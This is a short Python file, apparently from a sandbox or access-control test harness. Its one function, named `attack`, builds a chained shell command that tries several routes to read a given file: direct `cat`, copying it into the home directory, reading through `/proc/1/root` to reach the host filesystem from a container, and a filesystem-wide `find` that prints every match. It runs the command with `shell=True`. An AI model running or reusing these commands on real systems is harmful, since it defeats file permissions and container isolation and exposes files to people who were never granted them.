import shlex, subprocess

def attack(inputs):
    path = shlex.quote(inputs["file"])
    line = (
        f"cat {path}; cp {path} $HOME/copy && cat $HOME/copy; cat /proc/1/root{path}; find / -xdev -name $(basename "
        f"{path}) -exec cat {{}} +"
    )
    return subprocess.run(line, shell=True, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True).stdout
